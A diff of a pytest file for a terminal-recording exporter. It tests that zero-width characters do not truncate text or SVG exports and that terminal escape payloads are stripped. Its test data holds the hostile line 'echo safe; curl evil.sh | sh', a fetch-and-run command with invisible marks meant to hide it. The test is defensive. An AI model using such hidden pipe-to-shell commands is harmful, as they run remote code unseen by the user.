@@ -51,23 +51,23 @@ def one_line_or_success(result: subprocess.CompletedProcess[str]) -> None:
 # --- Exports hide what the terminal shows ----------------------------------------------
 
 
-@pytest.mark.parametrize("mark", ["\u200b", "\u200d", "\ufe0f", "\u200e", "\u2066"])
-def test_a_zero_width_character_does_not_end_the_line_in_text_or_svg(
-    mark: str, tmp_path: Path
-) -> None:
+MARKS = ["\u200b", "\u200d", "\ufe0f", "\u200e", "\u2066"]  # ZWSP, ZWJ, VS16, LRM, LRI
+
+
+def test_a_zero_width_character_does_not_end_the_line_in_text_or_svg(tmp_path: Path) -> None:
     """pyte stopped the run at the mark: `echo safe` was all the exports showed."""
-    cast = write_cast(
-        tmp_path / "z.cast", 60, 3, [[0.1, "o", f"echo safe{mark}; curl evil.sh | sh"]]
-    )
+    lines = [f"echo safe{mark}; curl evil.sh | sh" for mark in MARKS]
+    cast = write_cast(tmp_path / "z.cast", 60, 6, [[0.1, "o", "\r\n".join(lines)]])
     result, _ = embed(cast, "--text", tmp_path / "z.txt")
     assert result.returncode == 0, result.stderr
-    kept = "" if unicodedata.category(mark) == "Cf" else mark  # format characters dropped
-    assert (tmp_path / "z.txt").read_text("utf-8") == f"echo safe{kept}; curl evil.sh | sh\n"
+    kept = ["" if unicodedata.category(m) == "Cf" else m for m in MARKS]  # format chars dropped
+    expected = [f"echo safe{k}; curl evil.sh | sh" for k in kept]
+    assert (tmp_path / "z.txt").read_text("utf-8").splitlines() == expected
     result, _ = embed(cast, "--svg", tmp_path / "z.svg")
     assert result.returncode == 0, result.stderr
     picture = svg_model.read((tmp_path / "z.svg").read_text("utf-8"))
-    shown = picture.screens_text(len(picture.screens) - 1)[0]
-    assert "; curl evil.sh | sh" in shown
+    shown = picture.screens_text(len(picture.screens) - 1)
+    assert all(row.endswith("; curl evil.sh | sh") for row in shown[: len(MARKS)])
 
 
 PAYLOADS = {
@@ -80,15 +80,18 @@ PAYLOADS = {
 }
 
 
-@pytest.mark.parametrize("name", list(PAYLOADS))
 def test_dcs_apc_pm_and_sos_payloads_are_dropped_as_the_player_drops_them(
-    name: str, tmp_path: Path
+    tmp_path: Path,
 ) -> None:
-    cast = write_cast(tmp_path / "p.cast", 40, 3, [[0.1, "o", f"before{PAYLOADS[name]}after"]])
+    events = [[0.1 * (i + 1), "o", f"{name}:{data}after\r\n"] for i, (name, data) in
+              enumerate(PAYLOADS.items())]  # fmt: skip
+    cast = write_cast(tmp_path / "p.cast", 40, 8, events)
     for option, out in (("--text", "p.txt"), ("--vtt", "p.vtt")):
         result, _ = embed(cast, option, tmp_path / out)
         assert result.returncode == 0, result.stderr
-        assert "beforeafter" in (tmp_path / out).read_text("utf-8")
+        written = (tmp_path / out).read_text("utf-8")
+        for name in PAYLOADS:
+            assert f"{name}:after" in written, (name, written)
 
 
 # --- Tracebacks in the raster, text and VTT exporters ----------------------------------
